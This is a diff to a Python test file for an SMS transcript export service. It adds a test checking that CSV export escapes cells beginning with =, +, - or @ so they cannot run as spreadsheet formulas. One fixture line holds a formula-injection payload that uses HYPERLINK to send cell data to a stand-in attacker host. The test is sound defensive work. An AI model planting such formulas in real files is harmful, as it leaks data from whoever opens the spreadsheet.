@@ -124,3 +124,26 @@ def test_export_carries_the_machine_text_beside_an_admin_correction(
     assert row.corrected_at is not None
     (unmasked,) = export_rows(sessions, masked=False)
     assert unmasked.machine_translation == "010-1234-5678로 전화"
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(
+    sessions: sessionmaker[Session], record: TranscriptService
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for number, body in enumerate([hostile, "+1 555 0100", "-5 degrees", "@home", "fine"]):
+        record.record_inbound_sms(sms(f"SM{number}", body, "+821055501234"))
+    rows = list(export_rows(sessions, masked=False))
+    table = io.StringIO()
+    write_csv(rows, table)
+    parsed = list(csv.DictReader(io.StringIO(table.getvalue())))
+    assert [row["original_text"] for row in parsed] == [
+        "'" + hostile,
+        "'+1 555 0100",
+        "'-5 degrees",
+        "'@home",
+        "fine",
+    ]
+    assert parsed[0]["phone"] == "'+821055501234"  # a number, not a sum, in a spreadsheet
+    lines = io.StringIO()
+    write_jsonl(rows, lines)
+    assert json.loads(lines.getvalue().splitlines()[0])["original_text"] == hostile
